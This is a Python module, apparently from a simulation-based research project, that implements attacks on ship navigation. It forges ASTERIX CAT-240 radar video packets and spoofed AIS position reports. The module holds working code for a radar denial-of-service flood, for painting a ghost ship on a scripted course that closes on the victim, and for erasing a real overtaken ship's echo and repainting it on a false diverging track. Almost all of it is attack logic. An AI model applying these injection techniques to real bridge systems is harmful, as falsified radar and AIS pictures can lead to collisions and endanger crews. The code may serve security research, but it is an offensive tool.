"""Radar traffic injection: reconnaissance, the find/alter toolkit, the
three attacks and their delivery.

The engine is a passive listener on both bus topics until its start time.
It keeps a ship-state database from overheard NMEA traffic (own telemetry,
AIS contacts, ARPA targets), decides when its trigger conditions hold, and
weaponizes overheard CAT-240 packets:

  dos     -- periodically replaces a sweep packet with a full-circle,
             minimum-size, maximum-strength burst (one injection every k
             packets);
  ghost   -- paints a fictitious ship along a scripted trajectory by
             re-emitting the packet for the ghost's bearing with the ghost
             echo added, geometry untouched so every standards display sums
             it into the picture;
  hijack  -- after probing that the display grants the delete capability,
             erases the overtaken ship (zeroed cells plus a center-bias
             shift that forces the replace behavior) and repaints it on a
             diverging trajectory, backed by spoofed AIS reports injected
             faster than the real transponder's.

Injections are published with a modeled processing latency: the work of
the packet pipeline times a seeded jitter factor.  Pre-computed paints ride
a fast path; packets derived from the triggering one pay the full cost.
The recorded latency must stay within the configured budget.
"""

from __future__ import annotations

import math
from dataclasses import dataclass, field, replace

import numpy as np

from . import ais, asterix, nmea
from .asterix import VideoMessage, cell_width_m
from .bus import TOPIC_ASTERIX, TOPIC_NMEA, EventLoop
from .geodesy import (KNOTS_TO_MPS, NM_TO_M, GeoPosition, direct, enu_offset,
                      inverse, norm180, norm360)
from .kinematics import KinematicState
from .sectors import AnnulusSector, find_sector

GHOST_DIMS = (60, 60, 15, 15)    # bow/stern/port/starboard of the painted ship
GHOST_FOOTPRINT_R = math.hypot(30.0, 120.0) / 2.0


class AttackError(Exception):
    pass


# --------------------------------------------------------------------------
# ship state awareness
# --------------------------------------------------------------------------

@dataclass
class Contact:
    state: KinematicState
    dims: tuple[int, int, int, int] | None = None   # bow, stern, port, stbd
    name: str = ""
    last_seen: float = 0.0
    has_position: bool = False   # a position report has been received


@dataclass
class ShipStateDb:
    own_position: GeoPosition | None = None
    own_heading: float | None = None
    own_sog: float | None = None
    clock: float = 0.0
    contacts: dict[int, Contact] = field(default_factory=dict)
    arpa_targets: dict[int, tuple[nmea.TrackedTargetMessage, float]] = field(default_factory=dict)
    delete_capability: str = "unknown"   # unknown | granted | denied
    _vdm_buffer: list = field(default_factory=list)

    @property
    def own_state(self) -> KinematicState | None:
        if self.own_position is None or self.own_heading is None:
            return None
        return KinematicState(self.own_position, self.own_heading,
                              self.own_sog or 0.0, self.own_heading)


def state_awareness(db: ShipStateDb, sentence: nmea.Sentence, now: float) -> ShipStateDb:
    """Fold one overheard sentence into the state database."""
    db.clock = now
    tc = sentence.type_code
    try:
        if tc == "GGA":
            lat, lon = nmea.parse_gga(sentence)
            db.own_position = GeoPosition(lat, lon)
        elif tc == "GLL":
            lat, lon = nmea.parse_gll(sentence)
            db.own_position = GeoPosition(lat, lon)
        elif tc == "THS":
            db.own_heading = norm360(nmea.parse_ths(sentence))
        elif tc == "HDT":
            db.own_heading = norm360(nmea.parse_hdt(sentence))
        elif tc == "VHW":
            _, db.own_sog = nmea.parse_vhw(sentence)
        elif tc == "TTM":
            ttm = nmea.parse_ttm(sentence)
            if ttm.status == "lost":
                db.arpa_targets.pop(ttm.target_id, None)
            else:
                db.arpa_targets[ttm.target_id] = (ttm, now)
        elif tc in ("VDM", "VDO"):
            _ingest_vdm(db, sentence, now)
    except (nmea.NmeaError, ais.AisError, ValueError):
        pass  # unknown or malformed sentences are ignored
    return db


def _ingest_vdm(db: ShipStateDb, sentence: nmea.Sentence, now: float) -> None:
    total, num = int(sentence.fields[0]), int(sentence.fields[1])
    if num == 1:
        db._vdm_buffer = []
    db._vdm_buffer.append(sentence)
    if num != total:
        return
    group, db._vdm_buffer = db._vdm_buffer, []
    report = ais.decode_vdm(group)
    if isinstance(report, ais.AisPositionReport):
        c = db.contacts.get(report.mmsi)
        state = KinematicState(GeoPosition(report.lat, report.lon),
                               report.cog, report.sog, report.heading)
        if c is None:
            db.contacts[report.mmsi] = Contact(state, last_seen=now,
                                               has_position=True)
        else:
            c.state = state
            c.last_seen = now
            c.has_position = True
    else:
        c = db.contacts.get(report.mmsi)
        dims = (report.dim_bow, report.dim_stern, report.dim_port,
                report.dim_starboard)
        if c is None:
            db.contacts[report.mmsi] = Contact(
                KinematicState(GeoPosition(0.0, 0.0), 0.0, 0.0, 0.0),
                dims=dims, name=report.name, last_seen=now)
        else:
            c.dims = dims
            c.name = report.name


# --------------------------------------------------------------------------
# alter functions
# --------------------------------------------------------------------------

def alter(pkt: VideoMessage, sector: AnnulusSector, f, *args) -> VideoMessage | None:
    """Run an alter function against a packet; None means no injection."""
    return f(pkt, sector.a_min, sector.a_max, sector.d_min, sector.d_max, *args)


def copy_ship(pkt: VideoMessage, a_min: float, a_max: float,
              d_min: float, d_max: float, o_a: float, o_d: float) -> VideoMessage | None:
    """Copy the echoes inside a sector to an angular/radial offset.

    Returns None unless the packet's span lies inside [a_min, a_max]
    (taken modulo 360); cells whose radial extent sits inside
    [d_min, d_max] are shifted by o_d (rounded to whole cells) within the
    block, and the span is rotated by o_a.  None when nothing moved.
    """
    sector = AnnulusSector(a_min, a_max if (a_min, a_max) != (0.0, 360.0) else 360.0,
                           max(d_min, 0.0), d_max)
    if not sector.contains_span(pkt.start_az, pkt.end_az):
        return None
    half_c = asterix.SPEED_OF_LIGHT / 2.0
    i_o = round(o_d / (pkt.cell_dur * half_c))
    cells = pkt.cells.copy()
    out = pkt.cells.copy()
    n = pkt.n_cells
    idx = np.arange(n)
    rho_min = pkt.cell_dur * (idx + pkt.center_bias) * half_c
    rho_max = pkt.cell_dur * (idx + 1 + pkt.center_bias) * half_c
    movable = (rho_min >= d_min) & (rho_max <= d_max) & \
              (idx + i_o >= 0) & (idx + i_o < n)
    if not movable.any():
        return None
    out[idx[movable] + i_o] = cells[idx[movable]]
    return replace(
        pkt,
        start_az=norm360(pkt.start_az + o_a),
        end_az=norm360(pkt.end_az + o_a),
        cells=out,
    )


def delete_sector(pkt: VideoMessage, sector: AnnulusSector) -> VideoMessage | None:
    """Erase a sector from a packet and force a display replace.

    In-sector cells are zeroed; the leading zero run is then dropped by
    raising center_bias (at least by one even when the first cell carries
    an echo), so the cell geometry no longer matches the displayed trace
    and a quirky display replaces it instead of summing.
    """
    if not sector.overlaps_span(pkt.start_az, pkt.end_az):
        return None
    half_c = asterix.SPEED_OF_LIGHT / 2.0
    idx = np.arange(pkt.n_cells)
    rho_min = pkt.cell_dur * (idx + pkt.center_bias) * half_c
    rho_max = pkt.cell_dur * (idx + 1 + pkt.center_bias) * half_c
    inside = (rho_max > sector.d_min) & (rho_min < sector.d_max)
    if not inside.any():
        return None
    cells = pkt.cells.copy()
    cells[inside] = 0
    nz = np.flatnonzero(cells)
    drop = int(nz[0]) if nz.size else pkt.n_cells - 1
    drop = max(drop, 1)
    return replace(pkt, center_bias=pkt.center_bias + drop, cells=cells[drop:])


def dos_flood(pkt: VideoMessage, counter: int, k: int) -> tuple[VideoMessage | None, int]:
    """Denial-of-service alter step.

    Builds a full-circle packet with the minimum video block the protocol
    allows (32 bits) at maximum strength, stretching the cell duration so
    the covered range is preserved (clamped to what the 32-bit femtosecond
    field can carry).  Returns a packet once every k calls.
    """
    if k < 1:
        raise AttackError("rate divisor k must be >= 1")
    if pkt.cell_res > 32:
        raise AttackError("cell resolution beyond 32 bits")
    counter += 1
    if counter < k:
        return None, counter
    n = max(32 // pkt.cell_res, 1)
    dur = pkt.cell_dur * pkt.n_cells / n
    max_dur = (2 ** 32 - 1) / 1e15
    out = replace(
        pkt,
        start_az=0.0, end_az=0.0,  # 360-degree span wraps to zero on the wire
        cell_dur=min(dur, max_dur),
        cells=np.full(n, (1 << pkt.cell_res) - 1, dtype=pkt.cells.dtype),
    )
    return out, 0


# --------------------------------------------------------------------------
# ghost kinematics
# --------------------------------------------------------------------------

@dataclass
class GhostController:
    """Waypoint-following fake ship with rate-limited turn/acceleration.

    Per step: the position advances along the current course over ground,
    the course steers toward the target course with an on-off turn rate of
    at most omega_max (wrap-corrected through north, magnitude clamped so
    the discrete step cannot overshoot and chatter), and the speed ramps
    toward the target with at most accel_max.
    """
    pos: GeoPosition
    cog: float
    sog: float                 # knots
    course_target: float       # C(t)
    speed_target: float        # S(t)
    omega_max: float = 3.0     # deg/s
    accel_max: float = 0.1     # kn/s
    dt: float = 1.0
    waypoints: tuple[GeoPosition, ...] = ()
    speeds: tuple[float, ...] = ()
    wp_index: int = 0
    capture_radius: float = 50.0   # m

    def step(self) -> "GhostController":
        self.pos = direct(self.pos, self.cog, self.sog * KNOTS_TO_MPS * self.dt) \
            if self.sog > 0.0 else self.pos

        if self.wp_index < len(self.waypoints):
            dist, brg = inverse(self.pos, self.waypoints[self.wp_index])
            if dist < self.capture_radius:
                self.wp_index += 1
                if self.wp_index < len(self.waypoints):
                    _, brg = inverse(self.pos, self.waypoints[self.wp_index])
                    self.course_target = brg
                    if self.wp_index < len(self.speeds):
                        self.speed_target = self.speeds[self.wp_index]
            else:
                self.course_target = brg

        dc = self.course_target - self.cog
        if dc < -180.0:
            dc += 360.0
        elif dc > 180.0:
            dc -= 360.0
        omega = math.copysign(self.omega_max, dc) if dc != 0.0 else 0.0
        turn = omega * self.dt
        if abs(turn) > abs(dc):
            turn = dc
        self.cog = norm360(self.cog + turn)

        ds = self.speed_target - self.sog
        accel = math.copysign(self.accel_max, ds) if ds != 0.0 else 0.0
        dv = accel * self.dt
        if abs(dv) > abs(ds):
            dv = ds
        self.sog += dv
        return self


# --------------------------------------------------------------------------
# triggers
# --------------------------------------------------------------------------

def trigger_ghost(db: ShipStateDb, radius_nm: float = 6.0) -> bool:
    """True when at least two contacts sit within the radius and the
    starboard bow (relative bearing 0..90) is clear of them."""
    own = db.own_state
    if own is None:
        return False
    near = 0
    for c in db.contacts.values():
        if not c.has_position:
            continue
        dist, brg = inverse(own.position, c.state.position)
        if dist > radius_nm * NM_TO_M:
            continue
        near += 1
        rel = norm360(brg - own.heading)
        if 0.0 < rel < 90.0:
            return False
    return near >= 2


def trigger_overtake(db: ShipStateDb) -> int | None:
    """First contact the own ship is overtaking: slower than own speed and
    approached from more than 22.5 degrees abaft its beam."""
    own = db.own_state
    if own is None or db.own_sog is None:
        return None
    for mmsi, c in db.contacts.items():
        if not c.has_position or c.state.sog >= db.own_sog:
            continue
        _, brg_to_own = inverse(c.state.position, own.position)
        rel = abs(norm180(brg_to_own - c.state.heading))
        if rel > 112.5:  # beam + 22.5 degrees
            return mmsi
    return None


# --------------------------------------------------------------------------
# footprint painting (shared by ghost and hijack repaint)
# --------------------------------------------------------------------------

def paint_cells(rho: float, theta_rel: float, radius: float, n_bins: int,
                cell_width: float, n_cells: int, maxv: int,
                subsamples: int = 5) -> dict[int, tuple[int, np.ndarray]]:
    """Coverage-weighted cell strengths of a circular footprint, per bin:
    bin -> (first cell index, strengths)."""
    if rho <= radius or rho - radius >= n_cells * cell_width:
        return {}
    bin_w = 360.0 / n_bins
    phi = math.degrees(math.atan2(radius, rho))
    out: dict[int, tuple[int, np.ndarray]] = {}
    b_lo = int(math.floor((theta_rel - phi) / bin_w))
    b_hi = int(math.floor((theta_rel + phi) / bin_w))
    for bb in range(b_lo, b_hi + 1):
        acc: dict[int, float] = {}
        for s in range(subsamples):
            psi = (bb + (s + 0.5) / subsamples) * bin_w
            x = rho * math.sin(math.radians(psi - theta_rel))
            if abs(x) >= radius:
                continue
            e = math.sqrt(radius * radius - x * x)
            mid = rho * math.cos(math.radians(psi - theta_rel))
            lo = max((mid - e) / cell_width, 0.0)
            hi = min((mid + e) / cell_width, float(n_cells))
            if hi <= lo:
                continue
            for i in range(int(lo), int(math.ceil(hi))):
                cover = min(hi, i + 1) - max(lo, i)
                if cover > 0:
                    acc[i] = acc.get(i, 0.0) + cover / subsamples
        if acc:
            i_min, i_max = min(acc), max(acc)
            strengths = np.zeros(i_max - i_min + 1, np.uint32)
            for i, frac in acc.items():
                strengths[i - i_min] = min(maxv, round(frac * maxv))
            out[bb % n_bins] = (i_min, strengths)
    return out


# --------------------------------------------------------------------------
# the attack engine
# --------------------------------------------------------------------------

@dataclass(frozen=True)
class AttackConfig:
    kind: str = "none"               # none | dos | ghost | hijack
    start_time: float = 60.0         # passive until this bus time
    k: int = 10                      # dos: inject once every k packets
    omega_max: float = 3.0           # deg/s fake-ship turn limit
    accel_max: float = 0.1           # kn/s fake-ship acceleration limit
    dt: float = 1.0                  # fake-ship update period, s
    sm_pct: float = 1.0              # size margin for find/delete sectors
    eps_budget: float = 0.050        # injection latency budget, s
    hijack_ais_period: float = 1.5   # spoofed AIS faster than the real 6 s
    ghost_ais_period: float = 2.0
    ghost_speed: float = 10.0        # knots
    ghost_mmsi: int = 247_600_001
    nmea_source: str = "10.77.0.66:10110"
    # ghost trajectory: (range nm, bearing deg) relative to the victim's
    # heading at trigger time; a straight crossing line from the starboard
    # bow that closes CPA through the guard threshold.
    ghost_waypoints: tuple[tuple[float, float], ...] = (
        (3.100, 55.00), (2.625, 32.73), (2.654, 6.47),
    )
    hijack_speed_margin: float = 2.5  # kn above the victim's speed
    probe_revolutions: int = 9
    # injection latency model: work * (1 + jitter); jitter is a seeded
    # exponential capped hard, so precomputed (fast) paints can never slip
    # behind the next sweep packet, while full-pipeline injections
    # occasionally do, as on a real shared medium.
    work_full_ms: float = 1.0
    work_fast_ms: float = 0.2
    jitter_lambda: float = 1.15
    jitter_cap: float = 30.0


@dataclass(frozen=True)
class Injection:
    t_trigger: float
    t_delivery: float
    eps: float
    topic: str
    label: str
    payload: bytes


class AttackEngine:
    """One attack loop: consumes both traffic streams, injects weaponized
    packets.  Owns its ShipStateDb; publishes only through _inject."""

    def __init__(self, cfg: AttackConfig, bus, loop: EventLoop, rng,
                 spoof_source: str):
        self.cfg = cfg
        self.bus = bus
        self.loop = loop
        self.rng = rng
        self.spoof_source = spoof_source   # the antenna endpoint to imitate
        self.db = ShipStateDb()
        self.injections: list[Injection] = []
        self.events: list[tuple[float, str]] = []
        self._own_payloads: set[bytes] = set()
        self._own_order: list[bytes] = []
        # observed radar geometry
        self._n_bins: int | None = None
        self._geometry: tuple[float, int, int] | None = None  # dur, res, n_cells
        self._prev_start: float | None = None
        self.revolution = 0
        # dos state
        self._dos_counter = 0
        # ghost / hijack state
        self.ghost: GhostController | None = None
        self._ghost_active = False
        self._paint_plan: dict[int, bytes] = {}       # bin -> packed cell block
        self._hijack_phase = "idle"  # idle|probing|wait_trigger|active|aborted
        self._probe_target: int | None = None
        self._probe_started_rev = 0
        self._probe_ttm_seen: list[tuple[int, str]] = []
        self._last_probe_entry: tuple | None = None
        self._hijack_mmsi: int | None = None
        self._crafted_paint: bytes | None = None
        self._crafted_trigger_bin: int | None = None

    # -- wiring ------------------------------------------------------------

    def attach(self) -> None:
        self.bus.subscribe(TOPIC_NMEA, self._on_nmea)
        self.bus.subscribe(TOPIC_ASTERIX, self._on_asterix)
        if self.cfg.kind in ("ghost", "hijack"):
            self.loop.call_at(self.cfg.start_time, self._fake_ship_tick)

    @property
    def active(self) -> bool:
        return self.loop.now >= self.cfg.start_time and self.cfg.kind != "none"

    def _remember_own(self, payload: bytes) -> None:
        self._own_payloads.add(payload)
        self._own_order.append(payload)
        if len(self._own_order) > 256:
            self._own_payloads.discard(self._own_order.pop(0))

    def _inject(self, topic: str, payload: bytes, work_ms: float, label: str) -> None:
        jitter = min(self.rng.expovariate(self.cfg.jitter_lambda), self.cfg.jitter_cap)
        eps = work_ms * (1.0 + jitter) / 1000.0
        self._remember_own(payload)
        t = self.bus.publish(topic, payload,
                             self.spoof_source if topic == TOPIC_ASTERIX
                             else self.cfg.nmea_source,
                             delay=eps)
        self.injections.append(Injection(self.loop.now, t, eps, topic, label, payload))

    # -- NMEA side ----------------------------------------------------------

    def _on_nmea(self, d) -> None:
        if d.payload in self._own_payloads:
            return
        try:
            sentence = nmea.parse(d.payload.decode("ascii"))
        except (UnicodeDecodeError, nmea.NmeaError):
            return
        state_awareness(self.db, sentence, d.time)
        if not self.active:
            return
        if self.cfg.kind == "ghost" and not self._ghost_active:
            if trigger_ghost(self.db):
                self._start_ghost()
        elif self.cfg.kind == "hijack":
            self._hijack_on_nmea(sentence)

    # -- ASTERIX side --------------------------------------------------------

    def _on_asterix(self, d) -> None:
        if d.payload in self._own_payloads:
            return
        try:
            h = asterix.decode_header(d.payload)
        except asterix.DecodeError:
            return
        span = h.span
        if span < 360.0:
            if self._n_bins is None:
                self._n_bins = max(round(360.0 / span), 1)
            self._geometry = (h.cell_dur, h.cell_res, h.n_cells)
            if self._prev_start is not None and h.start_az < self._prev_start:
                self.revolution += 1
            self._prev_start = h.start_az
        if not self.active:
            return
        if self.cfg.kind == "dos":
            self._dos_packet(d, h)
        elif self.cfg.kind == "ghost" and self._ghost_active:
            self._ghost_packet(d, h)
        elif self.cfg.kind == "hijack":
            self._hijack_packet(d, h)

    # -- DoS -----------------------------------------------------------------

    def _dos_packet(self, d, h) -> None:
        if self._dos_counter + 1 < self.cfg.k:   # cheap path: no decode needed
            self._dos_counter += 1
            return
        out, self._dos_counter = dos_flood(asterix.decode(d.payload),
                                           self._dos_counter, self.cfg.k)
        if out is not None:
            self._inject(TOPIC_ASTERIX, asterix.encode(out.quantized()),
                         self.cfg.work_full_ms, "dos")

    # -- ghost ship ------------------------------------------------------------

    def _start_ghost(self) -> None:
        own = self.db.own_state
        waypoints = tuple(
            direct(own.position, norm360(own.heading + brg), rng_nm * NM_TO_M)
            for rng_nm, brg in self.cfg.ghost_waypoints
        )
        _, course0 = inverse(waypoints[0], waypoints[1])
        speeds = tuple(self.cfg.ghost_speed for _ in waypoints)
        self.ghost = GhostController(
            pos=waypoints[0], cog=course0, sog=self.cfg.ghost_speed,
            course_target=course0, speed_target=self.cfg.ghost_speed,
            omega_max=self.cfg.omega_max, accel_max=self.cfg.accel_max,
            dt=self.cfg.dt, waypoints=waypoints[1:], speeds=speeds[1:],
        )
        self._ghost_active = True
        self.events.append((self.loop.now, "ghost-triggered"))
        self._refresh_ghost_paint()
        self.loop.call_after(self.cfg.ghost_ais_period, self._ghost_ais_tick)

    def _fake_ship_tick(self) -> None:
        if self.ghost is not None:
            self.ghost.step()
            if self.cfg.kind == "ghost":
                self._refresh_ghost_paint()
            else:
                self._refresh_hijack_paint()
        self.loop.call_after(self.cfg.dt, self._fake_ship_tick)

    def _refresh_ghost_paint(self) -> None:
        """Precompute packed cell blocks for the bins the ghost occupies."""
        self._paint_plan = {}
        own = self.db.own_state
        if own is None or self._geometry is None or self._n_bins is None:
            return
        dur, res, n_cells = self._geometry
        rel = enu_offset(own.position, self.ghost.pos)
        rho = math.hypot(*rel)
        theta_rel = norm360(math.degrees(math.atan2(rel[0], rel[1])) - own.heading)
        maxv = (1 << res) - 1
        segments = paint_cells(rho, theta_rel, GHOST_FOOTPRINT_R, self._n_bins,
                               cell_width_m(dur), n_cells, maxv)
        dtype = np.uint8 if res <= 8 else (np.uint16 if res == 16 else np.uint32)
        for b, (i0, strengths) in segments.items():
            cells = np.zeros(n_cells, dtype)
            seg = cells[i0:i0 + strengths.size]
            np.copyto(seg, strengths[:seg.size].astype(dtype))
            self._paint_plan[b] = asterix.pack_cells(cells, res)

    def _ghost_packet(self, d, h) -> None:
        if h.span >= 360.0 or self._n_bins is None:
            return
        b = int(((h.start_az + h.span / 2.0) % 360.0) * self._n_bins / 360.0)
        block = self._paint_plan.get(b)
        if block is None:
            return
        rec = bytearray(d.payload)
        rec[asterix.OFF_CELL_DATA:asterix.OFF_CELL_DATA + len(block)] = block
        self._inject(TOPIC_ASTERIX, bytes(rec), self.cfg.work_fast_ms, "ghost-paint")

    def _ghost_ais_tick(self) -> None:
        if self.ghost is None:
            return
        for s in ais_creator(self.ghost, self.cfg.ghost_mmsi, self.loop.now,
                             name="WANDERER"):
            self._inject(TOPIC_NMEA, nmea.serialize(s).encode("ascii"),
                         self.cfg.work_fast_ms, "ghost-ais")
        self.loop.call_after(self.cfg.ghost_ais_period, self._ghost_ais_tick)

    # -- trajectory hijack --------------------------------------------------

    def start_probe(self) -> None:
        """Pick the most isolated tracked target for the delete test: a
        neighbor inside the plotting aid's association gate would keep the
        track alive on its own echoes and mask the verdict."""
        if not self.db.arpa_targets:
            raise AttackError("delete-capability probe needs a tracked target")

        def en(ttm):
            r = ttm.distance * NM_TO_M
            b = math.radians(ttm.bearing)
            return (r * math.sin(b), r * math.cos(b))

        positions = {tid: en(ttm) for tid, (ttm, _) in self.db.arpa_targets.items()}

        def isolation(tid):
            e, n = positions[tid]
            others = [math.hypot(e - oe, n - on)
                      for other, (oe, on) in positions.items() if other != tid]
            return min(others) if others else math.inf

        self._probe_target = max(sorted(positions), key=isolation)
        self._probe_started_rev = self.revolution
        self._probe_ttm_seen = []
        self._hijack_phase = "probing"
        self.events.append((self.loop.now, f"probe-start target {self._probe_target}"))

    def _hijack_on_nmea(self, sentence: nmea.Sentence) -> None:
        if sentence.type_code == "TTM" and self._hijack_phase == "probing":
            try:
                ttm = nmea.parse_ttm(sentence)
            except nmea.NmeaError:
                return
            if ttm.target_id == self._probe_target:
                self._probe_ttm_seen.append((self.revolution, ttm.status))
                if ttm.status == "lost":
                    self._probe_decide("granted")

    def _hijack_packet(self, d, h) -> None:
        phase = self._hijack_phase
        if phase == "idle":
            if self.db.arpa_targets:
                self.start_probe()
            return
        if phase == "probing":
            self._probe_step(d, h)
        elif phase == "wait_trigger":
            mmsi = trigger_overtake(self.db)
            if mmsi is not None:
                self._start_hijack(mmsi)
        elif phase == "active":
            self._hijack_delete(d, h)
            self._hijack_paint(d, h)

    def _probe_sector(self) -> AnnulusSector | None:
        entry = self.db.arpa_targets.get(self._probe_target)
        if entry is None:
            entry = self._last_probe_entry
        if entry is None:
            return None
        self._last_probe_entry = entry
        ttm, t_seen = entry
        own = self.db.own_state
        if own is None:
            return None
        rng_m = ttm.distance * NM_TO_M
        brg = math.radians(ttm.bearing)
        e = rng_m * math.sin(brg)
        n = rng_m * math.cos(brg)
        dt = self.loop.now - t_seen
        ve, vn = (math.sin(math.radians(ttm.course)) * ttm.speed * KNOTS_TO_MPS,
                  math.cos(math.radians(ttm.course)) * ttm.speed * KNOTS_TO_MPS)
        e += ve * dt
        n += vn * dt
        rho = math.hypot(e, n)
        theta_rel = norm360(math.degrees(math.atan2(e, n)) - own.heading)
        return find_sector(rho, theta_rel, 30.0, 120.0, self.cfg.sm_pct)

    def _probe_step(self, d, h) -> None:
        revs = self.revolution - self._probe_started_rev
        if revs > self.cfg.probe_revolutions + 2:
            recent = [s for r, s in self._probe_ttm_seen
                      if r >= self.revolution - 2 and s != "lost"]
            self._probe_decide("denied" if recent else "granted")
            return
        sector = self._probe_sector()
        if sector is None or h.span >= 360.0:
            return
        if not sector.overlaps_span(h.start_az, norm360(h.start_az + h.span)):
            return
        out = delete_sector(asterix.decode(d.payload), sector)
        if out is not None:
            self._inject(TOPIC_ASTERIX, asterix.encode(out.quantized()),
                         self.cfg.work_full_ms, "probe-delete")

    def _probe_decide(self, verdict: str) -> None:
        self.db.delete_capability = verdict
        self.events.append((self.loop.now, f"probe-{verdict}"))
        if verdict == "granted":
            self._hijack_phase = "wait_trigger"
        else:
            self._hijack_phase = "aborted"
            self.events.append((self.loop.now, "hijack-aborted"))

    def _start_hijack(self, mmsi: int) -> None:
        contact = self.db.contacts[mmsi]
        self._hijack_mmsi = mmsi
        own = self.db.own_state
        pos = self._dead_reckon(contact)
        # flee radially away from the own ship, faster than it: the range
        # opens immediately and keeps opening whatever the encounter layout
        _, veer = inverse(own.position, pos)
        speed = max((self.db.own_sog or 10.0), contact.state.sog) \
            + self.cfg.hijack_speed_margin
        waypoints = (direct(pos, veer, 3000.0), direct(pos, veer, 18000.0))
        self.ghost = GhostController(
            pos=pos, cog=contact.state.cog, sog=contact.state.sog,
            course_target=veer, speed_target=speed,
            omega_max=self.cfg.omega_max, accel_max=self.cfg.accel_max,
            dt=self.cfg.dt, waypoints=waypoints,
            speeds=(speed, speed),
        )
        self._hijack_phase = "active"
        self.events.append((self.loop.now, f"hijack-start mmsi {mmsi}"))
        self._refresh_hijack_paint()
        self.loop.call_after(self.cfg.hijack_ais_period, self._hijack_ais_tick)

    def _dead_reckon(self, contact: Contact) -> GeoPosition:
        dt = self.loop.now - contact.last_seen
        dist = contact.state.sog * KNOTS_TO_MPS * dt
        if dist <= 0.0:
            return contact.state.position
        return direct(contact.state.position, contact.state.cog, dist)

    def _delete_sector_now(self) -> AnnulusSector | None:
        contact = self.db.contacts.get(self._hijack_mmsi)
        own = self.db.own_state
        if contact is None or own is None:
            return None
        pos = self._dead_reckon(contact)
        dist, brg = inverse(own.position, pos)
        if dist <= 0.0:
            return None
        theta_rel = norm360(brg - own.heading)
        dims = contact.dims or (60, 60, 15, 15)
        w = float(dims[2] + dims[3])
        h = float(dims[0] + dims[1])
        return find_sector(dist, theta_rel, w, h, self.cfg.sm_pct)

    def _hijack_delete(self, d, h) -> None:
        sector = self._delete_sector_now()
        if sector is None or h.span >= 360.0:
            return
        if not sector.overlaps_span(h.start_az, norm360(h.start_az + h.span)):
            return
        out = delete_sector(asterix.decode(d.payload), sector)
        if out is not None:
            self._inject(TOPIC_ASTERIX, asterix.encode(out.quantized()),
                         self.cfg.work_full_ms, "hijack-delete")

    def _refresh_hijack_paint(self) -> None:
        """Prebuild the sector packet that repaints the hijacked ship."""
        self._crafted_paint = None
        self._crafted_trigger_bin = None
        own = self.db.own_state
        if own is None or self._geometry is None or self._n_bins is None or self.ghost is None:
            return
        dur, res, n_cells = self._geometry
        cw = cell_width_m(dur)
        rel = enu_offset(own.position, self.ghost.pos)
        rho = math.hypot(*rel)
        if rho <= GHOST_FOOTPRINT_R or rho - GHOST_FOOTPRINT_R >= n_cells * cw:
            return
        theta_rel = norm360(math.degrees(math.atan2(rel[0], rel[1])) - own.heading)
        r = GHOST_FOOTPRINT_R
        phi = math.degrees(math.atan2(r, rho))
        lo_cell = max(int((rho - r) / cw), 0)
        hi_cell = min(int(math.ceil((rho + r) / cw)), n_cells)
        if hi_cell <= lo_cell:
            return
        maxv = (1 << res) - 1
        strengths = np.zeros(hi_cell - lo_cell, np.uint32)
        for i in range(lo_cell, hi_cell):
            c_lo = max(float(i), (rho - r) / cw)
            c_hi = min(float(i + 1), (rho + r) / cw)
            strengths[i - lo_cell] = min(maxv, round(max(c_hi - c_lo, 0.0) * maxv))
        dtype = np.uint8 if res <= 8 else (np.uint16 if res == 16 else np.uint32)
        msg = VideoMessage(
            sac=1, sic=1, message_id=0, time_of_day=0.0,
            start_az=norm360(theta_rel - phi), end_az=norm360(theta_rel + phi),
            center_bias=lo_cell, cell_dur=dur, cell_res=res,
            cells=strengths.astype(dtype),
        ).quantized()
        self._crafted_paint = asterix.encode(msg)
        self._crafted_trigger_bin = int((norm360(theta_rel + phi) % 360.0)
                                        * self._n_bins / 360.0) % self._n_bins

    def _hijack_paint(self, d, h) -> None:
        if self._crafted_paint is None or h.span >= 360.0 or self._n_bins is None:
            return
        b = int(((h.start_az + h.span / 2.0) % 360.0) * self._n_bins / 360.0)
        if b != self._crafted_trigger_bin:
            return
        rec = bytearray(self._crafted_paint)
        rec[5] = d.payload[5]  # SAC
        rec[6] = d.payload[6]  # SIC
        rec[asterix.OFF_MSG_INDEX:asterix.OFF_MSG_INDEX + 3] = \
            d.payload[asterix.OFF_MSG_INDEX:asterix.OFF_MSG_INDEX + 3]
        rec[-3:] = d.payload[-3:]
        self._inject(TOPIC_ASTERIX, bytes(rec), self.cfg.work_fast_ms, "hijack-paint")

    def _hijack_ais_tick(self) -> None:
        if self._hijack_phase != "active" or self.ghost is None:
            return
        for s in ais_creator(self.ghost, self._hijack_mmsi, self.loop.now):
            self._inject(TOPIC_NMEA, nmea.serialize(s).encode("ascii"),
                         self.cfg.work_fast_ms, "hijack-ais")
        self.loop.call_after(self.cfg.hijack_ais_period, self._hijack_ais_tick)


def ais_creator(ctrl: GhostController, mmsi: int, now: float,
                name: str | None = None) -> list[nmea.Sentence]:
    """VDM sentences reporting the fake ship's current state."""
    report = ais.AisPositionReport(
        mmsi=mmsi, lat=ctrl.pos.lat, lon=ctrl.pos.lon,
        sog=ctrl.sog, cog=ctrl.cog, heading=ctrl.cog,
        timestamp_s=int(now) % 60,
    )
    out = ais.encode_vdm(report)
    if name is not None and int(now) % 12 == 0:
        bow, stern, port, stbd = GHOST_DIMS
        out += ais.encode_vdm(ais.AisStaticData(
            mmsi=mmsi, name=name, dim_bow=bow, dim_stern=stern,
            dim_port=port, dim_starboard=stbd))
    return out
